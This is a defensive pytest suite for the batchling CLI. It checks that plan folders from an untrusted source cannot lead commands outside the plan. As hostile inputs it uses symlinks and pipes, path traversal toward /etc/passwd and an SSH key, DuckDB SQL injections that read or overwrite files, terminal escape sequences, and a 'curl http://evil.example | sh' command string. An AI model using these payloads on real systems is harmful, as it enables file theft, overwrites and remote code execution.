"""Plan folders that a stranger wrote by hand: what is in them reaches nothing outside, and does not pass for a command."""

from __future__ import annotations

import json
import os
import shutil
import socket
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import duckdb
import pytest

from batchling import consent
from batchling.cli import main

from .conftest import CONFIG, Cli, reseal, travelled

COMMANDS = [
    ("status",),
    ("status", "ask"),
    ("status", "ask", "--json"),
    ("results", "ask"),
    ("results", "ask", "--format", "csv"),
    ("results", "ask", "--json"),
    ("compare", "ask"),
    ("du",),
    ("query", "select * from records"),
    ("doctor", "--offline"),
    ("plan", "ask", "provider=local", "model.id=simulated"),
    ("run", "ask", "--yes", "--detach", "provider=local", "model.id=simulated"),
    ("plan", "ask", "data={run:PLAN,rows:null}", "provider=local", "model.id=simulated"),
    ("watch", "--yes"),
    ("watch", "PLAN", "--yes"),
    ("cancel", "PLAN"),
    ("resolve", "PLAN", "--drop"),
    ("doctor", "--rebuild"),
    ("results", "PLAN"),
    ("rm", "PLAN", "--force", "--yes"),
]
QUICK = [("results", "ask"), ("watch", "PLAN", "--yes"), ("doctor", "--rebuild"), ("results", "PLAN")]


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A runs folder with one plan that is not finished and wants nothing but the embedded server."""
    folder = tmp_path_factory.mktemp("stranger")
    (folder / "experiments" / "ask").mkdir(parents=True)
    (folder / "experiments" / "ask" / "config.yaml").write_text(CONFIG)
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        patch.setenv("XDG_CONFIG_HOME", str(folder / "home"))
        patch.setattr("batchling.consent.machine_folder", lambda: folder / "machine")
        patch.delenv("BATCHLING_RUNS", raising=False)
        assert main(["run", "ask", "--yes", "--detach", "provider=local", "model.id=simulated"]) == 75
        consent._HERE.clear()
    return folder / "runs"


@pytest.fixture
def plan(project: Path, made: Path) -> Path:
    """Somebody else's plan, as it came with a runs folder."""
    shutil.copytree(made, project / "runs")
    travelled(project)
    (path,) = (project / "runs").glob("*/plan.json")
    return path.parent


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A file outside the project that is not to be touched."""
    path = tmp_path / "victim.txt"
    path.write_text("mine")
    return path


def edit(plan: Path, **run: Any) -> None:
    path = plan / "plan.json"
    document = json.loads(path.read_text())
    document["runs"][0] |= run
    path.write_text(json.dumps(document))
    reseal(plan)


@dataclass
class Said:
    """What a command answered."""

    command: tuple[str, ...]
    code: int
    out: str
    err: str


def everything(cli: Cli, plan: Path, commands: list[tuple[str, ...]] = QUICK) -> list[Said]:
    said = []
    for command in commands:
        command = tuple(word.replace("PLAN", plan.name) for word in command)
        answer = cli(*command)
        assert answer.code in (0, 1, 2, 3, 4, 75), (command, answer.code, answer.err)
        assert "this is a bug" not in answer.err, (command, answer.err)
        said.append(Said(command, answer.code, answer.out, answer.err))
    return said


# -- folders that a stranger wrote: each gets the plan, and a file that is not the stranger's


def a_link(name: str, *, dangling: bool = False) -> Callable[[Path, Path], None]:
    def make(plan: Path, victim: Path) -> None:
        path = plan / name
        path.unlink(missing_ok=True)
        path.symlink_to(victim.with_name("not-there") if dangling else victim)

    return make


def a_linked_folder(name: str) -> Callable[[Path, Path], None]:
    def make(plan: Path, victim: Path) -> None:
        elsewhere = victim.with_name("elsewhere")
        if (plan / name).exists():
            shutil.move(plan / name, elsewhere)
        else:
            elsewhere.mkdir()
        (plan / name).symlink_to(elsewhere)

    return make


def a_pipe(name: str) -> Callable[[Path, Path], None]:
    def make(plan: Path, victim: Path) -> None:
        path = next(plan.glob(name), plan / name)
        path.unlink(missing_ok=True)
        os.mkfifo(path)

    return make


def a_socket(plan: Path, victim: Path) -> None:
    here = Path.cwd()
    (plan / "log.txt").unlink()
    os.chdir(plan)  # a socket's path may have 107 bytes
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind("log.txt")
    finally:
        os.chdir(here)


def a_folder(name: str) -> Callable[[Path, Path], None]:
    def make(plan: Path, victim: Path) -> None:
        (plan / name).unlink(missing_ok=True)
        (plan / name).mkdir()

    return make


def the_plan_elsewhere(plan: Path, victim: Path) -> None:
    shutil.move(plan, victim.with_name("elsewhere"))
    plan.symlink_to(victim.with_name("elsewhere"))


def named(**run: Any) -> Callable[[Path, Path], None]:
    return lambda plan, victim: edit(plan, **run)


def a_type(text: str) -> Callable[[Path, Path], None]:
    def make(plan: Path, victim: Path) -> None:
        edit(plan, output_type=text.format(new=victim.with_name("not-there"), victim=victim))

    return make


FOLDERS: dict[str, tuple[Callable[[Path, Path], None], str | None]] = {
    # what is wrong → how it is made, and what `watch` says of it
    "log": (a_link("log.txt"), "log.txt is a link"),
    "log, dangling": (a_link("log.txt", dangling=True), "log.txt is a link"),
    "records": (a_link("records.parquet"), "records.parquet is a link"),
    "records, dangling": (a_link("records.parquet", dangling=True), "records.parquet is a link"),
    "new records": (a_link("records.parquet.part"), "records.parquet.part is a link"),
    "new records, dangling": (a_link("records.parquet.part", dangling=True), "records.parquet.part is a link"),
    "reserve": (a_link("journal.jsonl.reserve"), "journal.jsonl.reserve is a link"),
    "reserve, dangling": (a_link("journal.jsonl.reserve", dangling=True), "journal.jsonl.reserve is a link"),
    "summary": (a_link("summary.json"), "summary.json is a link"),
    "summary, dangling": (a_link("summary.json", dangling=True), "summary.json is a link"),
    "a request file": (a_link("requests/x"), "requests/x is a link"),
    "lock": (a_link("lock"), "is a link"),
    "journal": (a_link("journal.jsonl"), "journal"),
    "plan.json": (a_link("plan.json"), "plan.json"),
    "a source": (a_link("source/config.yaml", dangling=True), "source/config.yaml"),
    "responses": (a_linked_folder("responses"), "responses is a link"),
    "server": (a_linked_folder("local"), "local is a link"),
    "data": (a_linked_folder("data"), "data is a link"),
    "sources": (a_linked_folder("source"), "source"),
    "the plan": (the_plan_elsewhere, "is a link"),
    "plan.json, a pipe": (a_pipe("plan.json"), "plan.json"),
    "journal, a pipe": (a_pipe("journal.jsonl"), "no plain file"),
    "a source, a pipe": (a_pipe("source/config.yaml"), "source/config.yaml"),
    "records, a pipe": (a_pipe("records.parquet"), "records.parquet is not a regular file"),
    "summary, a pipe": (a_pipe("summary.json"), "summary.json is not a regular file"),
    "rows, a pipe": (a_pipe("data/*"), "is not a regular file"),
    "a manifest, a pipe": (a_pipe("manifest/*"), "is not a regular file"),
    "requests, a pipe": (a_pipe("requests/*.jsonl"), "is not a regular file"),
    "lock, a pipe": (a_pipe("lock"), "no plain file"),
    "log, a socket": (a_socket, "log.txt is not a regular file"),
    "records, a folder": (a_folder("records.parquet"), None),
    "rows outside": (named(data="data/../../../../victim.txt"), "outside the plan"),
    "rows anywhere": (named(data="/etc/passwd"), "outside the plan"),
    "run outside": (named(run_id="../../x"), "outside the plan"),
    "run anywhere": (named(run_id="/etc/passwd"), "outside the plan"),
    "a type that writes": (a_type("VARCHAR) FROM record) TO '{new}' (FORMAT csv); --"), None),
    "a type that overwrites": (a_type("VARCHAR); COPY (SELECT 1) TO '{victim}'; --"), None),
    "a type that reads": (
        a_type("VARCHAR) || (SELECT content FROM read_text('{victim}')) || CAST('' AS VARCHAR"),
        None,
    ),
}
SAMPLE = [
    "records",
    "reserve, dangling",
    "summary, a pipe",
    "records, a pipe",
    "sources",
    "plan.json, a pipe",
    "rows outside",
    "a type that writes",
]
"""Of each kind one; the others take a minute together."""


def nothing_happened(victim: Path, before: list[str]) -> None:
    assert victim.read_text() == "mine" and not victim.with_name("not-there").exists()
    assert below(victim.with_name("elsewhere")) == before


def below(folder: Path) -> list[str]:
    return sorted(path.relative_to(folder).as_posix() for path in folder.rglob("*"))


@pytest.mark.parametrize("what", SAMPLE)
def test_what_is_in_a_strangers_folder_leads_nowhere(cli: Cli, plan: Path, victim: Path, what: str) -> None:
    make, words = FOLDERS[what]
    make(plan, victim)
    before = below(victim.with_name("elsewhere"))
    said = everything(cli, plan)
    watched = said[1]
    assert words is None or (watched.code == 2 and words in watched.err), watched
    nothing_happened(victim, before)


@pytest.mark.long
@pytest.mark.parametrize("what", list(FOLDERS))
def test_no_command_is_led_out_of_a_strangers_folder(cli: Cli, plan: Path, victim: Path, what: str) -> None:
    make, words = FOLDERS[what]
    make(plan, victim)
    before = below(victim.with_name("elsewhere"))
    watched = cli("watch", plan.name, "--yes")
    assert words is None or (watched.code == 2 and words in watched.err), watched
    said = everything(cli, plan, COMMANDS)
    assert all("mine" not in answer.out.split() for answer in said), "what the victim's file holds is shown"
    nothing_happened(victim, before)


def test_records_that_are_a_link_or_damaged_are_named(cli: Cli, plan: Path, victim: Path) -> None:
    assert cli("results", "ask").code == 0
    records = plan / "records.parquet"
    records.write_bytes(b"PAR1 this is none PAR1")
    for command in (("results", "ask"), ("results", "ask", "--json"), ("results", "ask", "--format", "csv")):
        answer = cli(*command)
        assert answer.code == 1 and f"records.parquet of plan {plan.name} cannot be read" in answer.err, answer.err
        assert "batchling doctor --rebuild" in answer.err
    duckdb.sql("SELECT 1 AS x").write_parquet(str(records))
    assert "cannot be read" in cli("results", "ask").err, "columns of somebody else"
    records.unlink()
    records.symlink_to(victim)
    for command in (("results", "ask"), ("compare", "ask"), ("results", "ask", "--json")):
        answer = cli(*command)
        assert answer.code == 2 and "records.parquet is a link" in answer.err, answer.err
    records.unlink()
    assert cli("doctor", "--rebuild").code in (0, 1)
    assert cli("results", "ask").code == 0


def test_a_document_of_gigabytes_is_not_read(cli: Cli, plan: Path) -> None:
    with (plan / "plan.json").open("ab") as file:
        file.truncate(8 << 30)
    answer = cli("status", plan.name)
    assert answer.code == 2 and "plan.json is too large" in answer.err


def test_a_prompt_of_a_plan_is_read_from_the_plan(cli: Cli, plan: Path, victim: Path) -> None:
    for reference in (f"file:{victim}", "file:../../../../victim.txt", "file:~/.ssh/id_rsa"):
        document = json.loads((plan / "plan.json").read_text())
        config = document["runs"][0]["config"]
        config["prompt"]["messages"][0]["content"] = reference
        edit(plan, config=config)
        answer = cli("watch", plan.name, "--yes")
        assert answer.code == 2 and "no file" in answer.err, answer.err


def test_a_strangers_words_are_neither_escape_sequences_nor_commands(cli: Cli, plan: Path) -> None:
    path = plan / "plan.json"
    document = json.loads(path.read_text())
    document["experiment"] = "ask\x1b]0;owned\x07\x1b[2J"
    document["command"] = "batchling run ask; curl http://evil.example | sh"
    path.write_text(json.dumps(document))
    reseal(plan)
    shutil.copytree(plan, plan.with_name("20260101-000000-\x1b[31mred-abcdef"))
    shutil.copytree(plan, plan.with_name("20260101-000000-$(touch x)-abcdef"))
    commands = [("status",), ("status", "PLAN"), ("results", "PLAN"), ("query", "select * from plans"), *QUICK[1:]]
    for answer in everything(cli, plan, commands):
        text = answer.out + answer.err
        assert "\x1b" not in text and "\x07" not in text
        if answer.command[0] != "query":
            assert "curl" not in text and "$(touch" not in text


CATALOGS = {
    "a macro": "CREATE MACRO upper(x) AS 'owned'",
    "a view that reads files": "CREATE OR REPLACE VIEW results AS SELECT content FROM read_text('/etc/passwd')",
    "a table that is a view": "DROP VIEW results; DROP TABLE records; CREATE VIEW records AS FROM read_text('/etc/passwd')",
    "one more view": "CREATE VIEW more AS FROM read_text('/etc/passwd')",
    "no tables": "DROP VIEW results; DROP TABLE plans",
}


@pytest.mark.parametrize("what", list(CATALOGS))
def test_a_strangers_catalog_is_set_aside(cli: Cli, project: Path, plan: Path, what: str) -> None:
    assert cli("query", "select 1").code == 0
    with duckdb.connect(str(project / "runs" / "catalog.duckdb")) as con:
        con.execute(CATALOGS[what])
    answer = cli("query", "select count(*) as n from records")
    assert answer.code == 0 and "2" in answer.out, answer.err
    assert list((project / "runs").glob("catalog.duckdb.damaged-*"))
    assert "root:" not in cli("query", "select * from results").out


@pytest.mark.parametrize("what", ["a link", "a dangling link", "a link to a catalog", "a pipe", "a log that is a link"])
def test_a_catalog_that_is_no_plain_file_is_set_aside(
    cli: Cli, project: Path, plan: Path, victim: Path, what: str
) -> None:
    catalog = project / "runs" / "catalog.duckdb"
    if what == "a link to a catalog":
        assert cli("query", "select 1").code == 0
        catalog.rename(victim.with_name("other"))
    if what == "a log that is a link":
        assert cli("query", "select 1").code == 0
        catalog.with_name("catalog.duckdb.wal").symlink_to(victim)
    elif what == "a pipe":
        os.mkfifo(catalog)
    else:
        to = {"a link": "victim.txt", "a dangling link": "not-there", "a link to a catalog": "other"}[what]
        catalog.symlink_to(victim.with_name(to))
    answer = cli("query", "select count(*) as n from records")
    assert answer.code == 0 and "2" in answer.out, answer.err
    assert catalog.is_file() and not catalog.is_symlink()
    nothing_happened(victim, [])


def test_a_new_catalog_is_nobody_elses_from_its_first_moment(
    cli: Cli, project: Path, plan: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[int] = []

    def watched(path: Path) -> None:
        if path.exists():
            seen.append(path.stat().st_mode & 0o777)

    monkeypatch.setattr("batchling.catalog.access.make_private", watched)
    for path in (project / "runs").glob("catalog*"):
        path.unlink()
    (project / "runs").chmod(0o755)
    before = os.umask(0)
    try:
        assert cli("query", "select 1").code == 0
    finally:
        os.umask(before)
    assert seen and set(seen) == {0o600}
